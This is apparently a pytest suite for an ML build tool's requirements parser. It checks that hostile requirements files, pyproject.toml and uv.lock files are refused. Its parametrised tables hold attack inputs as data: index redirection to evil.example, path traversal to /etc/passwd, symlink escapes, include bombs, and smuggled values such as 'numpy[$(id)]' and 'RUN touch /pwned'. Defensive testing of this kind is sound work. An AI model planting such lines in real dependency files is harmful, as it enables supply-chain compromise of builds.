# ruff: noqa: E501  (tables of hostile inputs read best one entry per line)
"""Hostile project files behind a recipe's `requirements:`: every one is refused with the field,
the place in the file and what is allowed, or is read into requirements that cannot add a line
to the build's own requirements files. Nothing is read outside the recipe's folder."""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builder.errors import RecipeError, ResolveError
from builder.pep508 import requirement_problem
from builder.projectfiles import MAX_BYTES
from builder.recipe import parse_recipe
from builder.render import write_context
from builder.resolve import resolve
from builder.settings import BuildSettings

PROJECT = Path(__file__).resolve().parents[2] / "recipes" / "project"  # a real uv.lock (uv lock)
HEAD = 'name: proj\nframework: sklearn\nframework_version: "1.5"\npython: "3.11"\ncuda: cpu\n'


def refused(folder: Path, value: str, files: dict[str, str | bytes] | None = None) -> str:
    for name, content in (files or {}).items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    with pytest.raises(RecipeError) as info:
        parse_recipe((HEAD + f"requirements: {value}\n").encode(), folder / "recipe.yaml")
    assert info.value.exit_code == 2
    assert all(p.startswith("requirements") for p in info.value.details), info.value.details
    return "\n".join(info.value.details)


# -- where the file may be -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("../requirements.txt", "may not contain '..'"),
        ("a/../../requirements.txt", "may not contain '..'"),
        ("/etc/passwd", "is not allowed; expected a file relative to the recipe's folder"),
        ("'~/requirements.txt'", "is not allowed"),
        ("'req uirements.txt'", "is not allowed"),
        ("'requirements.txt\\n-i http://evil'", "is not allowed"),
        (
            "setup.py",
            "'setup.py' is not a project file; expected a requirements file (*.txt, *.in), a pyproject.toml or a uv.lock",
        ),
        ("missing.txt", "'missing.txt' does not exist in"),
        ("{path: ../uv.lock}", "requirements.path: '../uv.lock' may not contain '..'"),
        ("{file: r.txt}", "requirements.file: unknown key"),
        ("[r.txt]", "requirements: expected a mapping, got a list"),
        ("{path: r.txt, extras: ['a b']}", "requirements.extras[0]: 'a b' is not allowed"),
    ],
)
def test_paths_outside_or_odd_are_refused(tmp_path: Path, value: str, expected: str) -> None:
    assert expected in refused(tmp_path, value)


def test_symlink_escaping_the_folder_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("numpy\n")
    recipe_dir = tmp_path / "proj"
    recipe_dir.mkdir()
    (recipe_dir / "requirements.txt").symlink_to(outside)
    assert "'requirements.txt' leads outside the recipe's folder (through a symlink)" in refused(
        recipe_dir, "requirements.txt"
    )
    (recipe_dir / "inner").symlink_to(tmp_path)
    assert "leads outside the recipe's folder" in refused(recipe_dir, "inner/outside.txt")


def test_includes_stay_inside_the_folder(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("numpy\n")
    proj = tmp_path / "proj"
    proj.mkdir()
    assert "requirements.txt line 1: '../secret.txt' leads outside the recipe's folder" in refused(
        proj, "requirements.txt", {"requirements.txt": "-r ../secret.txt\n"}
    )
    assert "is not allowed; expected a relative path" in refused(
        proj, "requirements.txt", {"requirements.txt": "-r /etc/passwd\n"}
    )
    (proj / "link.txt").symlink_to(tmp_path / "secret.txt")
    assert "'link.txt' leads outside the recipe's folder (through a symlink)" in refused(
        proj, "requirements.txt", {"requirements.txt": "-c link.txt\n"}
    )
    # `..` that stays inside the folder is fine: sub/dev.txt includes ../base.txt
    (proj / "sub").mkdir()
    (proj / "sub" / "dev.txt").write_text("-r ../base.txt\nrich\n")
    (proj / "base.txt").write_text("six\n")
    recipe = parse_recipe((HEAD + "requirements: sub/dev.txt\n").encode(), proj / "recipe.yaml")
    assert recipe.requirements and [e.requirement for e in recipe.requirements.entries] == ["six", "rich"]


def test_include_cycles_are_refused(tmp_path: Path) -> None:
    found = refused(tmp_path, "a.txt", {"a.txt": "six\n-r b.txt\n", "b.txt": "-r a.txt\n"})
    assert "b.txt line 1: including 'a.txt' makes a cycle (a.txt -> b.txt -> a.txt)" in found
    assert "makes a cycle" in refused(tmp_path, "self.txt", {"self.txt": "-r self.txt\n"})


def test_include_bombs_stop_at_a_bound(tmp_path: Path) -> None:
    # each file includes the next one twice: 2**20 reads unless bounded
    files = {f"f{i}.txt": f"-r f{i + 1}.txt\n-c f{i + 1}.txt\n" for i in range(20)}
    files["f20.txt"] = "six\n"
    assert "more than 64 requirement files are included" in refused(tmp_path, "f0.txt", files)


def test_huge_files_and_non_files_are_refused_without_reading_them(tmp_path: Path) -> None:
    big = b"six\n" * (MAX_BYTES["requirements"] // 4 + 1)
    assert f"is {len(big)} bytes; at most {MAX_BYTES['requirements']} allowed" in refused(
        tmp_path, "big.txt", {"big.txt": big}
    )
    os.mkfifo(tmp_path / "fifo.txt")
    assert "'fifo.txt' is not a regular file" in refused(tmp_path, "fifo.txt")
    (tmp_path / "dir.txt").mkdir()
    assert "'dir.txt' is not a regular file" in refused(tmp_path, "dir.txt")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"six\x00\n", "contains a NUL byte (at byte 3)"),
        (b"six\n\xff\xfe\n", "is not UTF-8 text (byte 4 is 0xff)"),
        ("caf\u00e9\n".encode("latin-1"), "is not UTF-8 text"),
    ],
)
def test_binary_and_non_utf8_files_are_refused(tmp_path: Path, content: bytes, expected: str) -> None:
    assert expected in refused(tmp_path, "r.txt", {"r.txt": content})


# -- what a requirements file may say -------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "-i https://evil.example/simple",
            "-i would choose where packages come from; the site's pip configuration and mlbuild's options set indexes",
        ),
        ("--index-url=https://evil.example/simple", "--index-url would choose where packages come from"),
        ("--extra-index-url https://evil.example/simple", "--extra-index-url would choose where packages come from"),
        ("-f https://evil.example/wheels", "-f would choose where packages come from"),
        ("--find-links=/tmp", "--find-links would choose"),
        ("--trusted-host evil.example", "--trusted-host would choose"),
        ("--no-index", "--no-index would choose"),
        ("-e .", "editable installs ('-e .') are not supported"),
        ("--editable=git+https://evil.example/x.git", "editable installs"),
        ("--pre", "pip option '--pre' is not supported here; allowed: -r/--requirement FILE"),
        ("--use-feature=truststore", "pip option '--use-feature' is not supported here"),
        ("https://evil.example/x-1.0-py3-none-any.whl", "URLs and local paths are not supported as requirements"),
        ("numpy @ https://evil.example/numpy.whl", "URLs and local paths are not supported"),
        ("./vendor/mypkg", "URLs and local paths are not supported"),
        ("/abs/x-1.0.tar.gz", "URLs and local paths are not supported"),
        ("mypkg.whl", "URLs and local paths are not supported"),
        ("file:///etc/passwd", "URLs and local paths are not supported"),
        ("git+https://evil.example/x.git#egg=x", "URLs and local paths are not supported"),
        ("numpy --global-option=--evil", "pip option '--global-option=--evil' after a requirement is not supported"),
        ("numpy --config-settings=x=y", "pip option '--config-settings=x=y' after a requirement"),
        ("numpy --hash=md5:abc", "'md5:abc' is not a sha256 hash"),
        ("numpy==1 --hash=sha256:abc", "'sha256:abc' is not a sha256 hash"),
        ("numpy==${VERSION}", "environment variables are not allowed"),
        ("numpy; os_name == '${PIP_INDEX_URL}'", "environment variables are not allowed"),
        ("numpy===", "is not a PEP 508 requirement"),
        ("numpy\u00e9", "only printable ASCII"),
        ("numpy[$(id)]", "is not a PEP 508 requirement"),
        ("A" * 5000, "is 5000 characters long; at most 4096 allowed"),
    ],
)
def test_option_and_source_injection_lines_are_refused(tmp_path: Path, line: str, expected: str) -> None:
    found = refused(tmp_path, "requirements.txt", {"requirements.txt": f"six\n{line}\n"})
    assert "requirements.txt line 2: " in found
    assert expected in found, found


@pytest.mark.parametrize("separator", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\r"])
def test_lines_pip_would_split_are_split_the_same_way(tmp_path: Path, separator: str) -> None:
    """A separator pip's splitlines() honours hides no `-i` line: it is seen and refused."""
    found = refused(tmp_path, "r.txt", {"r.txt": f"six{separator}-i http://evil.example/simple\n".encode()})
    assert "r.txt line 2: -i would choose where packages come from" in found


def test_a_comment_or_continuation_hides_nothing(tmp_path: Path) -> None:
    found = refused(tmp_path, "r.txt", {"r.txt": "six \\\n -i http://evil.example/simple\n"})
    assert "r.txt line 1: pip option '-i' after a requirement is not supported" in found
    recipe = parse_recipe(
        (HEAD + "requirements: c.txt\n").encode(),
        _write(tmp_path, "c.txt", "six # -i http://evil.example/simple\n#-e .\n  # --index-url x\n"),
    )
    assert recipe.requirements and [e.requirement for e in recipe.requirements.entries] == ["six"]


def _write(folder: Path, name: str, text: str) -> Path:
    (folder / name).write_text(text)
    return folder / "recipe.yaml"


# -- pyproject.toml and uv.lock --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("[project\nname='x'", "pyproject.toml is not valid TOML"),
        ("x = " + "[" * 100000 + "]" * 100000, "pyproject.toml"),
        ("[tool.x]\ny = 1\n", "has no [project] table"),
        ("[project]\nname='x'\ndependencies = 'numpy'\n", "[project] dependencies is not a list of requirements"),
        ("[project]\nname='x'\ndependencies = [1]\n", "[project] dependencies[0]: 1 is not a requirement string"),
        (
            "[project]\nname='x'\ndependencies = ['x @ https://evil.example/x.whl']\n",
            "direct URL requirements are not supported",
        ),
        ('[project]\nname="x"\ndependencies = ["numpy\\n-i http://evil"]\n', "only printable ASCII"),
        ("[project]\nname='x'\nrequires-python = 'three'\n", "requires-python: 'three' is not a version specifier"),
        ("[project]\nname='x'\n[dependency-groups]\na = [{include-group = 'b'}]\nb = [{include-group = 'a'}]\n", ""),
    ],
)
def test_hostile_pyproject_files_are_refused(tmp_path: Path, content: str, expected: str) -> None:
    value = "{path: pyproject.toml, groups: [a]}" if "dependency-groups" in content else "pyproject.toml"
    found = refused(tmp_path, value, {"pyproject.toml": content})
    assert expected in found
    if "dependency-groups" in content:
        assert "include a cycle: a -> b -> a" in found


def lock_with(tmp_path: Path, old: str, new: str) -> str:
    text = (PROJECT / "uv.lock").read_text()
    assert old in text
    (tmp_path / "uv.lock").write_text(text.replace(old, new, 1))
    return "uv.lock"


TAB_SDIST = 'sdist = { url = "https://files.pythonhosted.org/packages/ec/fe/802052aecb21e3797b8f7902564ab6ea0d60ff8ca23952079064155d1ae1/tabulate-0.9.0.tar.gz", hash = "sha256:0095b12bf5966de529c0feb1fa08671671b3368eec77d7ef7ab114be2c068b3c"'
TAB_SOURCE = 'name = "tabulate"\nversion = "0.9.0"\nsource = { registry = "https://pypi.org/simple" }'


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("version = 1\n", "version = 2\n", "version = 2 is not a uv.lock version mlbuild reads (1)"),
        ("version = 1\n", "version = true\n", "version = True is not a uv.lock version"),
        (TAB_SDIST, TAB_SDIST.replace("sha256:0095", "sha256:ZZ95"), "package tabulate sdist: hash 'sha256:ZZ95"),
        (TAB_SDIST, TAB_SDIST.replace('hash = "sha256:', 'hash = "md5:'), "is not sha256:<64 lower-case hex digits>"),
        ("tabulate-0.9.0-py3-none-any.whl", "tabulate-0.9.0-py3-none-any.exe", "does not end in a wheel file name"),
        (
            "https://files.pythonhosted.org/packages/40/44/4a5f08c96eb108af5cb50b41f76142f0afa346dfa99d5296fe7202a11854/tabulate-0.9.0-py3-none-any.whl",
            "file:///etc/passwd",
            "'file:///etc/passwd' does not end in a wheel file name",
        ),
        (
            "tabulate-0.9.0-py3-none-any.whl",
            "numpy-2.0.0-py3-none-any.whl",
            "'numpy-2.0.0-py3-none-any.whl' is not a wheel of tabulate 0.9.0",
        ),
        (
            '    { name = "tabulate" },\n]',
            '    { name = "tabulate" },\n    { name = "ghost" },\n]',
            "dependency ghost  matches no package",
        ),
        (
            '{ name = "exceptiongroup", marker = "python_full_version < \'3.11\'" }',
            '{ name = "exceptiongroup", marker = "python_full_version <<< 3" }',
            "is not a PEP 508 marker",
        ),
        ('source = { virtual = "." }', 'source = { virtual = "sub" }', "names no project at its own folder"),
        (
            TAB_SOURCE,
            TAB_SOURCE.replace('{ registry = "https://pypi.org/simple" }', '{ magic = "x" }'),
            "package tabulate: source {'magic': 'x'} is not one mlbuild knows",
        ),
        (
            'name = "tabulate"\nversion = "0.9.0"',
            'name = "tabulate"\nversion = "not a version"',
            "package tabulate: version 'not a version' is not a PEP 440 version",
        ),
        ('name = "tabulate"', 'name = "tab ulate"', "name 'tab ulate' is not a package name"),
        ("[[package]]", "[[package]\n", "uv.lock is not valid TOML"),
    ],
)
def test_hostile_uv_locks_are_refused(tmp_path: Path, old: str, new: str, expected: str) -> None:
    assert expected in refused(tmp_path, lock_with(tmp_path, old, new))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            '{ git = "https://evil.example/x.git?rev=1#abc" }',
            "tabulate (needed by the project) comes from git https://evil.example/x.git",
        ),
        ('{ url = "https://evil.example/tabulate-0.9.0.tar.gz" }', "comes from url https://evil.example/"),
        ('{ path = "/etc/tabulate" }', "comes from path /etc/tabulate"),
        ('{ editable = "packages/tabulate" }', "comes from editable packages/tabulate"),
        ('{ directory = "../tabulate" }', "comes from directory ../tabulate"),
    ],
)
def test_uv_lock_packages_not_from_an_index_are_refused_at_resolve(tmp_path: Path, source: str, expected: str) -> None:
    lock_with(tmp_path, TAB_SOURCE, TAB_SOURCE.replace('{ registry = "https://pypi.org/simple" }', source))
    recipe = parse_recipe((HEAD + "requirements: uv.lock\n").encode(), tmp_path / "recipe.yaml")
    with pytest.raises(ResolveError) as info:
        resolve(recipe)
    assert expected in info.value.message
    assert "installs packages from the site's index only" in info.value.message


def test_uv_lock_marker_on_the_python_patch_release_is_refused(tmp_path: Path) -> None:
    old = '{ name = "exceptiongroup", marker = "python_full_version < \'3.11\'" }'
    lock_with(tmp_path, old, old.replace("'3.11'", "'3.11.4'"))
    recipe = parse_recipe((HEAD + "requirements: uv.lock\n").encode(), tmp_path / "recipe.yaml")
    with pytest.raises(ResolveError) as info:
        resolve(recipe)
    assert "depends on Python's patch release" in info.value.message


def test_uv_lock_unknown_extra_lists_the_projects_extras(tmp_path: Path) -> None:
    shutil.copy(PROJECT / "uv.lock", tmp_path / "uv.lock")
    found = refused(tmp_path, "{path: uv.lock, extras: [gpu], groups: [docs]}")
    assert "uv.lock: the project has no extra 'gpu'; its extras: cli" in found
    assert "uv.lock: the project has no dependency group 'docs'; its groups: dev" in found


# -- fuzz: whatever a file says, it is refused or inert ----------------------------------------------
PIECES = st.sampled_from(
    [
        "six", "numpy==1.26.4", "pandas>=2; python_version >= '3.10'", "-r other.txt", "-c other.txt",
        "-i http://evil.example/simple", "--extra-index-url=http://evil.example", "-e .", "#", " # x", "\\",
        "--hash=sha256:" + "a" * 64, "${HOME}", "x @ https://evil.example/x.whl", "../x", "\x00", "\x0b",
        "\u2028", "\r", "\n", " ", "RUN touch /pwned", "FROM scratch", "numpy; os_name == \"x", "\ufeff",
        "--require-hashes", "-rother.txt", "-r", "--", "-", "é", "\\\n-i http://evil.example",
    ]
)  # fmt: skip
GOOD_LINES = st.sampled_from(
    ["six", "numpy==1.26.4", "pandas>=2; python_version >= '3.10'", "-r other.txt", "-c other.txt", "", "# note",
     "tabulate  # tables", "rich[jupyter]>=13", "six \\\n  >=1.16"]
)  # fmt: skip
LINES = st.one_of(GOOD_LINES, GOOD_LINES, GOOD_LINES, st.lists(PIECES, min_size=1, max_size=3).map("".join))
FILES = st.lists(LINES, max_size=8).map("\n".join)


@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip
@given(main=FILES, other=FILES)
def test_fuzzed_requirements_files_are_refused_or_inert(tmp_path: Path, main: str, other: str) -> None:
    folder = tmp_path / "fuzz"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "requirements.txt").write_bytes(main.encode("utf-8", "surrogatepass"))
    (folder / "other.txt").write_bytes(other.encode("utf-8", "surrogatepass"))
    try:
        recipe = parse_recipe((HEAD + "requirements: requirements.txt\n").encode(), folder / "recipe.yaml")
        spec = resolve(recipe)
    except RecipeError as exc:
        assert exc.exit_code == 2 and exc.problems
        assert all(p.field == "requirements" and p.message for p in exc.problems)
        return
    except ResolveError as exc:
        assert exc.exit_code == 2 and exc.message
        return
    for text in (*spec.requirements, *(pin for pin, _ in spec.hashed_requirements), *spec.requirement_constraints):
        req, why = requirement_problem(text)
        assert req is not None and not req.url, why
    ctx = tmp_path / "ctx"
    shutil.rmtree(ctx, ignore_errors=True)
    ctx.mkdir()
    write_context(spec, ctx, folder, BuildSettings())
    for name in ("requirements.txt", "requirements-project.txt", "constraints-project.txt"):
        path = ctx / "mlbuild" / name
        if path.exists():
            for line in filter(None, path.read_text().splitlines()):
                assert re.fullmatch(r"[A-Za-z0-9][^\x00-\x1f\x7f#]*", line), line
                assert not line.startswith("-") and " -i " not in line and "--index" not in line
